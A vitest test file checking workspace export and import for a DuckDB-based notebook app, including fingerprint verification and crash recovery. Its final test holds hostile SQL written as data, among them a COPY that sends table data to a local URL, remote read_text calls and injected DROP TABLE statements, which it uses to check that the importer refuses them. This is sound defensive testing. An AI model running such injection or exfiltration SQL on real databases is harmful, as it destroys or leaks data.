import { describe, it, expect, beforeAll } from 'vitest';
import { unzipSync, zipSync } from 'fflate';
import { createNodeEngine } from '../../src/engine/node';
import type { Engine } from '../../src/engine/types';
import { ensureCatalog, recordImport } from '../../src/ingest/catalog';
import { exportWorkspace, importWorkspace, readArchive, recoverImport, type ArchiveManifest } from '../../src/store/archive';
import { columnsOf, fingerprintTable } from '../../src/store/fingerprint';
import { MemoryKv, PageCrashed } from '../../src/store/memory-kv';
import { tableToParquet } from '../../src/store/parquet';
import { tableNames } from '../../src/store/tables';
import { WorkspaceStore } from '../../src/store/workspace-store';

// Two engines stand for two machines: A exports, B imports.
let a: Engine;
let b: Engine;
let storeA: WorkspaceStore;
let archive: Uint8Array;
let manifest: ArchiveManifest;

const REVIEW = '---\ntitle: Review\n---\n\n```sql top\nSELECT * FROM deals ORDER BY amount DESC\n```\n';
const NOTES = '# Notes\n\nCalled Alpha on Monday.\n';

beforeAll(async () => {
  [a, b] = await Promise.all([createNodeEngine(), createNodeEngine()]);
  await a.query(`CREATE TABLE deals (deal_id VARCHAR, partner_id VARCHAR, closed_at DATE, amount DECIMAL(18,2), status VARCHAR)`);
  await a.query(`INSERT INTO deals VALUES ('d1', 'p1', DATE '2025-03-01', 1200.50, 'won'), ('d2', 'p2', DATE '2025-04-15', 800.00, 'lost'),
                                          ('d3', NULL, DATE '2025-05-20', 99.99, 'won')`);
  await a.query(`CREATE TABLE "Société" (nom VARCHAR, employés INTEGER); INSERT INTO "Société" VALUES ('Alpha', 12), ('Béta', NULL)`);
  // What an import mapping makes: a view with the canonical names over the imported table.
  await a.query(`CREATE VIEW won AS SELECT deal_id, amount FROM deals WHERE status = 'won'`);
  await ensureCatalog(a);
  await recordImport(a, {
    fileName: 'deals.csv', tableName: 'deals', format: 'csv', size: 123, sha256: 'ab'.repeat(32), rowCount: 3, rejectedCount: 0,
    settings: { format: 'json', layout: 'array', columns: [], skipBadRows: false }, importedAt: '2026-01-02T03:04:05.000Z',
  });
  storeA = await WorkspaceStore.open(new MemoryKv());
  await storeA.create('review.md', REVIEW);
  const notes = await storeA.create('notes.md', NOTES);
  await storeA.opened(notes.id);
  await storeA.setSetting('locale', 'fr-FR');
  await storeA.tablesUsed(['deals']);
  ({ bytes: archive, manifest } = await exportWorkspace(a, storeA));
});

/** B's workspace before any import: one table and one notebook of its own. */
async function oldWorkspace(kv = new MemoryKv()): Promise<{ kv: MemoryKv; store: WorkspaceStore }> {
  for (const t of await tableNames(b)) await b.query(`DROP TABLE main."${t}"`);
  await b.query(`DROP SCHEMA IF EXISTS longtail CASCADE; CREATE TABLE old_t AS SELECT 1 AS x`);
  const store = await WorkspaceStore.open(kv);
  await store.create('old.md', '# Old\n');
  return { kv, store };
}

async function state(engine: Engine, store: WorkspaceStore) {
  return {
    tables: await tableNames(engine),
    notebooks: await Promise.all(store.notebooks.map(async (n) => [n.file, await store.read(n.id)])),
  };
}

const fingerprints = async (engine: Engine, relations: { schema: string; name: string }[]) =>
  Promise.all(relations.map(async (r) => (await fingerprintTable(engine, r)).sha256));

describe('workspace export', () => {
  it('lists every notebook and table with its fingerprint', async () => {
    expect(manifest.notebooks.map((n) => [n.file, n.title, n.size])).toEqual([
      ['review.md', 'Review', REVIEW.length],
      ['notes.md', 'Notes', NOTES.length],
    ]);
    expect(manifest.tables.map((t) => [t.schema, t.name, t.rows, t.path])).toEqual([
      ['main', 'Société', 2, 'tables/01-Soci_t_.parquet'],
      ['main', 'deals', 3, 'tables/02-deals.parquet'],
      ['longtail', 'imports', 1, 'tables/03-longtail.imports.parquet'],
      ['longtail', 'mappings', 0, 'tables/04-longtail.mappings.parquet'],
    ]);
    expect(manifest.views.map((v) => [v.name, v.sql])).toEqual([['won', `CREATE VIEW won AS SELECT deal_id, amount FROM deals WHERE (status = 'won');`]]);
    expect(manifest.current).toBe('notes.md');
    expect(manifest.settings).toEqual({ locale: 'fr-FR' });
    const files = Object.keys(unzipSync(archive)).sort();
    expect(files).toEqual(['manifest.json', 'notebooks/notes.md', 'notebooks/review.md', ...manifest.tables.map((t) => t.path)].sort());
  });
});

describe('workspace import', () => {
  it('replaces the workspace with the export, every fingerprint the same as on the first machine', async () => {
    const { store } = await oldWorkspace();
    const report = await importWorkspace(b, store, archive);
    const relations = manifest.tables.map(({ schema, name }) => ({ schema, name }));
    expect(await fingerprints(b, relations)).toEqual(await fingerprints(a, relations));
    const won = [{ schema: 'main', name: 'won' }];
    expect(await fingerprints(b, won)).toEqual(await fingerprints(a, won));
    expect(report.tables.map((t) => t.fingerprint)).toEqual(await fingerprints(a, relations));
    expect(await state(b, store)).toEqual({ tables: ['Société', 'deals'], notebooks: [['review.md', REVIEW], ['notes.md', NOTES]] });
    // Same column types, and the values themselves: 1200.50 + 99.99 won.
    expect(await columnsOf(b, { schema: 'main', name: 'deals' })).toEqual(await columnsOf(a, { schema: 'main', name: 'deals' }));
    const sum = await b.query(`SELECT CAST(sum(amount) AS VARCHAR) AS s FROM won`);
    expect(sum.get(0)!.toJSON().s).toBe('1300.49');
    expect(store.settings).toEqual({ locale: 'fr-FR', currentNotebook: store.byFile('notes.md')!.id });
    expect(Object.keys(store.tableUse)).toEqual(['deals']);
    // The import records came along, readable by the import code.
    const rec = await b.query(`SELECT file_name, row_count FROM longtail.imports`);
    expect(rec.toArray().map((r) => r.toJSON())).toEqual([{ file_name: 'deals.csv', row_count: 3 }]);
  });

  it('refuses a notebook that does not match its fingerprint, changing nothing', async () => {
    const { store } = await oldWorkspace();
    const files = unzipSync(archive);
    files['notebooks/notes.md'] = new TextEncoder().encode('# Notes\n\nEdited.\n');
    await expect(importWorkspace(b, store, zipSync(files))).rejects.toThrow('notebooks/notes.md does not match its fingerprint');
    expect(await state(b, store)).toEqual({ tables: ['old_t'], notebooks: [['old.md', '# Old\n']] });
  });

  it('refuses a table whose data does not match its fingerprint, changing nothing and leaving nothing behind', async () => {
    const { store } = await oldWorkspace();
    // Same columns, one amount changed: a well-formed Parquet file with other data.
    await a.query(`CREATE TABLE tampered AS SELECT * REPLACE (CASE WHEN deal_id = 'd2' THEN 801.00 ELSE amount END AS amount) FROM deals`);
    const files = unzipSync(archive);
    files['tables/02-deals.parquet'] = await tableToParquet(a, { schema: 'main', name: 'tampered' }, await columnsOf(a, { schema: 'main', name: 'tampered' }));
    await expect(importWorkspace(b, store, zipSync(files))).rejects.toThrow('Table deals does not match its fingerprint');
    expect(await state(b, store)).toEqual({ tables: ['old_t'], notebooks: [['old.md', '# Old\n']] });
    const left = await b.query(`SELECT count(*) AS n FROM duckdb_tables() WHERE starts_with(table_name, '__longtail_')`);
    expect(left.get(0)!.toJSON().n).toBe(0);
  });

  it('refuses files that are not workspace exports', async () => {
    await expect(readArchive(new TextEncoder().encode('hello'))).rejects.toThrow('not a zip archive');
    await expect(readArchive(zipSync({ 'manifest.json': new TextEncoder().encode('{"format":"other"}') }))).rejects.toThrow('is not a Longtail workspace export');
  });

  it('is all or nothing when the page dies at any write, once recovery has run at the next start', async () => {
    const before = { tables: ['old_t'], notebooks: [['old.md', '# Old\n']] };
    const after = { tables: ['Société', 'deals'], notebooks: [['review.md', REVIEW], ['notes.md', NOTES]] };
    const outcomes: string[] = [];
    for (let put = 0; ; put++) {
      const { kv, store } = await oldWorkspace();
      kv.crashAfter(put, 'torn');
      const result = await importWorkspace(b, store, archive).then(
        () => 'completed',
        (e: unknown) => (e instanceof PageCrashed ? 'crashed' : e),
      );
      if (result === 'completed') break;
      expect(result).toBe('crashed');
      // The next start: the store reopened from what reached the storage, then recovery.
      const reopened = await WorkspaceStore.open(new MemoryKv(kv.data));
      const recovered = await recoverImport(b, reopened);
      const now = await state(b, reopened);
      expect([before, after]).toContainEqual(now);
      outcomes.push(`${recovered}:${now.tables[0] === 'old_t' ? 'old' : 'new'}`);
    }
    // Blobs and the head of phase one (nothing switched), then the head of phase two (recovery completes).
    expect(outcomes[0]).toBe('none:old');
    expect(outcomes[outcomes.length - 1]).toBe('completed:new');
  });

  it('undoes an import whose page died between recording the switch and swapping the tables', async () => {
    const { kv, store } = await oldWorkspace();
    // The page dies as the swap transaction is sent: DuckDB never runs it, and nothing after it is written.
    let dead = false;
    const dying: Engine = {
      ...b,
      query: (sql, params) => {
        if (dead || sql.startsWith('BEGIN TRANSACTION')) {
          dead = true;
          kv.crashAfter(0);
          return Promise.reject(new PageCrashed());
        }
        return b.query(sql, params);
      },
    };
    await expect(importWorkspace(dying, store, archive)).rejects.toBeInstanceOf(PageCrashed);
    const reopened = await WorkspaceStore.open(new MemoryKv(kv.data));
    expect(reopened.pendingImport?.staged.map((s) => s.name)).toEqual(['Société', 'deals', 'imports', 'mappings']);
    expect(await recoverImport(b, reopened)).toBe('undone');
    expect(await state(b, reopened)).toEqual({ tables: ['old_t'], notebooks: [['old.md', '# Old\n']] });
    expect(reopened.pendingImport).toBeUndefined();
  });

  it('checks what becomes SQL before anything of the archive runs, and refuses hostile definitions', async () => {
    const hostile: [string, (m: ArchiveManifest) => void, string][] = [
      ['a COPY to an address', (m) => (m.views[0]!.sql = "COPY (SELECT * FROM deals) TO 'http://127.0.0.1:4399/x.csv'"), 'it is not a CREATE VIEW statement'],
      ['a second statement', (m) => (m.views[0]!.sql = 'CREATE VIEW won AS SELECT 1; DROP TABLE old_t;'), 'it holds 2 statements'],
      ['a table function', (m) => (m.views[0]!.sql = "CREATE VIEW won AS SELECT * FROM read_text('http://127.0.0.1:4399/x')"), 'it calls read_text(…)'],
      ['a quoted table function', (m) => (m.views[0]!.sql = 'CREATE VIEW won AS SELECT * FROM "glob"(\'*\')'), 'it calls glob(…)'],
      ['a file named as a table', (m) => (m.views[0]!.sql = "CREATE VIEW won AS SELECT * FROM 'http://127.0.0.1:4399/x.csv'"), 'which the archive does not hold'],
      ['a table of this machine', (m) => (m.views[0]!.sql = 'CREATE VIEW won AS SELECT * FROM old_t'), 'it reads old_t, which the archive does not hold'],
      ['another name', (m) => (m.views[0]!.sql = 'CREATE VIEW elsewhere AS SELECT * FROM deals'), 'it does not create the view won'],
      ['a column type with SQL after it', (m) => (m.tables[1]!.columns[0]!.type = 'VARCHAR); DROP TABLE old_t; --'), 'has a type Longtail cannot read'],
      ['a column type with a default', (m) => (m.tables[1]!.columns[0]!.type = 'VARCHAR DEFAULT (1)'), 'has a type Longtail cannot read'],
      ['a system schema', (m) => (m.tables[1]!.schema = 'pg_catalog'), 'in a schema Longtail does not use (pg_catalog)'],
    ];
    for (const [what, change, message] of hostile) {
      const { store } = await oldWorkspace();
      const files = unzipSync(archive);
      const m = JSON.parse(new TextDecoder().decode(files['manifest.json'])) as ArchiveManifest;
      change(m);
      files['manifest.json'] = new TextEncoder().encode(JSON.stringify(m));
      // Every statement the import sends, to show that none of the archive's ran.
      const sent: string[] = [];
      const watched: Engine = { ...b, query: (sql, params) => (sent.push(sql), b.query(sql, params)) };
      await expect(importWorkspace(watched, store, zipSync(files)), what).rejects.toThrow(message);
      expect(sent.filter((q) => !q.startsWith('SELECT DISTINCT lower(function_name)')), what).toEqual([]);
      expect(await state(b, store), what).toEqual({ tables: ['old_t'], notebooks: [['old.md', '# Old\n']] });
    }
  });
});

